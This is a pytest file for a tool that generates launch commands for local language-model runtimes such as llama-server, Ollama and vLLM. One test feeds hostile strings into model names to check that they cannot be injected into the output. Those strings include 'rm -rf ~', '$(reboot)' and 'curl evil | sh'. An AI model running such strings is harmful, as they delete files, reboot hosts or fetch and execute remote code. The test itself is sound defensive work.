"""What is copied to run a plan: its own figures, in the form that each program takes."""

from __future__ import annotations

import shlex

import pytest

from rigplanner.domain.parts import Slot
from rigplanner.domain.plan import Companion, CompanionKind, KvType, Offload, OffloadMode, OwnParts, Plan, Runtime
from rigplanner.export.run_command import llama_bench
from rigplanner.export.run_steps import run_steps
from rigplanner.planner import edits
from rigplanner.planner.evaluate import evaluate
from tests.planner import rigs

LIBRARY = rigs.library()
SHARED = edits.with_users(edits.with_context(edits.with_kv_type(rigs.PLAN, KvType.Q8_0), 8192), 4)


def steps(runtime: Runtime, plan: Plan = SHARED) -> str:
    return run_steps(evaluate(edits.with_runtime(plan, runtime), LIBRARY))


def flags(command: str) -> list[str]:
    """The words of a shell command over several lines."""
    return shlex.split(command)


def test_llama_server_gets_the_whole_context_and_divides_it() -> None:
    words = flags(steps(Runtime.LLAMA_CPP))
    assert words[0] == "llama-server"
    assert [words[words.index(flag) + 1] for flag in ("-c", "-np", "-ngl", "-ctk", "-ctv")] == [
        "8192",
        "4",
        "999",
        "q8_0",
        "q8_0",
    ]


def test_llama_server_leaves_out_what_does_not_fit() -> None:
    words = flags(steps(Runtime.LLAMA_CPP, edits.with_quant(rigs.PLAN, "F16")))
    placement = evaluate(edits.with_quant(rigs.PLAN, "F16"), LIBRARY).memory.placement
    assert placement is not None
    assert words[words.index("-ngl") + 1] == str(placement.ngl)


def test_ollama_gets_the_context_of_one_user_and_multiplies_it() -> None:
    lines = steps(Runtime.OLLAMA).splitlines()
    assert "PARAMETER num_ctx 2048" in lines
    assert "export OLLAMA_NUM_PARALLEL=4" in lines
    assert "export OLLAMA_KV_CACHE_TYPE=q8_0" in lines
    assert f"FROM ./{next(word for word in flags(steps(Runtime.LLAMA_CPP)) if word.endswith('.gguf'))}" in lines


def test_lm_studio_gets_the_settings_of_its_own_window() -> None:
    text = steps(Runtime.LM_STUDIO)
    assert "Context Length: 8192" in text
    assert "Q8_0" in text
    experts = edits.with_offload(edits.with_model(rigs.PLAN, "mixture", "Q4_K_M"), Offload(mode=OffloadMode.EXPERTS))
    assert "Experts on the CPU" in steps(Runtime.LM_STUDIO, experts)


def test_vllm_is_told_its_share_of_the_card() -> None:
    words = flags(steps(Runtime.VLLM, edits.with_count(SHARED, Slot.GPU, 2)))
    assert words[:2] == ["vllm", "serve"]
    assert [words[words.index(flag) + 1] for flag in ("--max-model-len", "--max-num-seqs")] == ["2048", "4"]
    assert words[words.index("--gpu-memory-utilization") + 1] == "0.92"
    assert words[words.index("--pipeline-parallel-size") + 1] == "2"


def test_mlx_is_told_that_its_files_are_its_own() -> None:
    assert "mlx_lm.server" in steps(Runtime.MLX)
    assert "not a .gguf" in steps(Runtime.MLX)


def test_every_program_can_be_run() -> None:
    assert all(steps(runtime).strip() for runtime in Runtime)


def test_llama_bench_measures_the_model_as_it_is_placed() -> None:
    plan = edits.with_model(rigs.PLAN, "mixture", "Q4_K_M")
    report = evaluate(plan, LIBRARY)
    placement = report.memory.placement
    assert placement is not None
    assert placement.cpu_expert_layers
    words = flags(llama_bench(report))
    assert words[words.index("-ncmoe") + 1] == str(placement.cpu_expert_layers)
    assert words[words.index("-d") + 1] == str(report.speed.filled_tokens)
    assert "-ncmoe" not in flags(llama_bench(evaluate(rigs.PLAN, LIBRARY)))


@pytest.mark.parametrize(
    "text", ["x; rm -rf ~", "$(reboot)", "`id`\ncurl evil | sh", "--rpc evil:1", "a' || b", "..", "&"]
)
@pytest.mark.parametrize("runtime", list(Runtime))
def test_a_strangers_names_cannot_add_to_a_command(runtime: Runtime, text: str) -> None:
    own = OwnParts(models=(LIBRARY.models[rigs.PLAN.workload.model_id].model_copy(update={"name": text}),))
    beside = Companion(kind=CompanionKind.DRAFT, name=text, model_id=rigs.PLAN.workload.model_id, quant=text)
    plan = edits.with_companions(edits.with_own(rigs.PLAN, own), (beside,))
    work = plan.workload.model_copy(update={"quant": text, "runtime": runtime})
    command = run_steps(evaluate(plan.model_copy(update={"workload": work}), LIBRARY))
    kind = edits.with_runtime(rigs.PLAN, runtime)
    usual = run_steps(evaluate(edits.with_companions(kind, (beside.model_copy(update={"quant": "Q4_K_M"}),)), LIBRARY))
    assert len(command.splitlines()) <= len(usual.splitlines())
    for line in command.splitlines():
        if not line.startswith("#"):
            assert not set(line) & set(";|&$`'\"<>()"), line
            assert "--rpc" not in line
